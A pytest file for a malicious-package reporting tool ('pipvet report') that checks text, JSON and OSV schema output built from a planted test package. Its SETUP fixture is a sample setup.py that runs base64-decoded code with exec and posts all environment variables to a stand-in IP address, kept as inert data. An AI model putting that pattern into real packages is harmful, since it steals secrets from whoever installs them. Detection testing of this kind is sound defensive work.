"""``pipvet report``: a suspicious package's evidence as text for PyPI and as an OSV ``MAL-``
record (validated against the OSV schema), from real artifacts on the loopback index (issue 13)."""

from __future__ import annotations

import json
from pathlib import Path

import jsonschema
import pytest
from tests.support import index_builder as builder

from pipvet.cli.main import main
from pipvet.services.report import _view_url

OSV_SCHEMA = Path(__file__).resolve().parents[2] / "shared" / "schemas" / "osv-schema.json"

# inert: written for this test, never run (pipvet reads it as data)
SETUP = """\
import base64, os, urllib.request
from setuptools import setup
exec(base64.b64decode("cHJpbnQoJ2hpJyk="))
urllib.request.urlopen("http://198.51.100.7/c", data=repr(dict(os.environ)).encode())
setup(name="evilpkg", version="1.0")
"""


@pytest.fixture
def evil_index(make_index, tmp_path: Path, monkeypatch):
    monkeypatch.setenv("PIPVET_CACHE_DIR", str(tmp_path / "cache"))
    idx = make_index()
    idx.add_sdist("evilpkg", "1.0", files={"setup.py": SETUP}, upload_time="2026-01-02T03:04:05Z")
    idx.add_wheel("goodpkg", "1.0", files={"goodpkg/__init__.py": "X = 1\n"})
    return idx


def _osv_schema() -> dict:
    if not OSV_SCHEMA.is_file():
        pytest.skip(f"{OSV_SCHEMA} is missing")
    return json.loads(OSV_SCHEMA.read_text())


def test_text_report_names_evidence_hashes_upload_and_how_to_send(evil_index, capsys) -> None:
    code = main(["report", "evilpkg==1.0", "--index-url", evil_index.url])
    cap = capsys.readouterr()
    assert code == 0, cap.err
    out = cap.out
    assert out.startswith("Suspected malicious package on PyPI: evilpkg 1.0")
    sha = next(line for line in out.splitlines() if "evilpkg-1.0.tar.gz  sha256 " in line)
    assert len(sha.split("sha256 ")[1].split()[0]) == 64
    assert "uploaded 2026-01-02T03:04:05Z" in out
    assert f"Index: {evil_index.url}" in out
    assert "setup.py:3" in out and "b64decode" in out  # file, line and excerpt
    assert "https://inspector.pypi.io/project/evilpkg/1.0/" in out
    assert "PyPI's public file viewer" in out
    # where to send it, on stderr; nothing sent (the index saw only its own requests)
    assert "pipvet sent nothing" in cap.err and "security@pypi.org" in cap.err
    assert "github.com/ossf/malicious-packages" in cap.err
    assert all(not p.startswith("/report") for p in evil_index.requests)


def test_osv_record_validates_against_the_osv_schema(evil_index, tmp_path: Path, capsys) -> None:
    out = tmp_path / "mal.json"
    args = ["report", "evilpkg==1.0", "--index-url", evil_index.url, "--format", "osv"]
    assert main([*args, "-o", str(out)]) == 0
    doc = json.loads(out.read_text())
    jsonschema.validate(doc, _osv_schema())
    sha = doc["database_specific"]["pipvet"]["artifacts"][0]["sha256"]
    assert doc["id"] == f"MAL-0000-pipvet-{sha[:12]}"
    assert doc["affected"][0]["package"] == {"ecosystem": "PyPI", "name": "evilpkg"}
    assert doc["affected"][0]["versions"] == ["1.0"]
    origins = doc["database_specific"]["malicious-packages-origins"]
    assert origins[0]["sha256"] == sha and origins[0]["source"] == "pipvet"
    rules = {e["rule"] for e in doc["database_specific"]["pipvet"]["evidence"]}
    assert any(r.startswith("intent.") or r.startswith("install-time.") for r in rules)
    assert f"wrote {out}" in capsys.readouterr().err


def test_a_local_artifact_and_json(tmp_path: Path, monkeypatch, capsys) -> None:
    monkeypatch.setenv("PIPVET_CACHE_DIR", str(tmp_path / "cache"))
    filename, data = builder.build_sdist("evilpkg", "1.0", files={"setup.py": SETUP})
    path = tmp_path / filename
    path.write_bytes(data)
    assert main(["report", str(path), "--format", "json"]) == 0
    doc = json.loads(capsys.readouterr().out)
    assert doc["name"] == "evilpkg" and doc["version"] == "1.0"
    assert doc["index_url"] is None and doc["artifacts"][0]["url"] is None
    assert doc["verdict"] in ("suspicious", "malicious")
    assert doc["evidence"] and doc["evidence"][0]["path"].endswith("setup.py")


def test_a_clean_package_is_reported_with_a_warning(evil_index, capsys) -> None:
    assert main(["report", "goodpkg", "--index-url", evil_index.url]) == 0
    cap = capsys.readouterr()
    assert "no sign of malice (clean)" in cap.err


@pytest.mark.parametrize(
    ("target", "message"),
    [("nosuchpkg==1.0", "404"), ("evilpkg==9.9", "the index has no files"),
     ("./missing.whl", "no such file"),
     ("evilpkg>=1", "give an exact version")],
)  # fmt: skip
def test_bad_targets_are_one_line_exit_2(evil_index, capsys, target: str, message: str) -> None:
    assert main(["report", target, "--index-url", evil_index.url]) == 2
    err = capsys.readouterr().err
    assert message in err and len(err.strip().splitlines()) == 1


def test_view_links_follow_pypis_file_paths() -> None:
    url = "https://files.pythonhosted.org/packages/ab/cd/0123/evilpkg-1.0.tar.gz"
    assert _view_url("evilpkg", "1.0", url, "evilpkg-1.0/setup.py") == (
        "https://inspector.pypi.io/project/evilpkg/1.0/packages/ab/cd/0123/evilpkg-1.0.tar.gz/"
        "evilpkg-1.0/setup.py"
    )
    assert _view_url("evilpkg", "1.0", "http://127.0.0.1:1/files/x.whl") is None
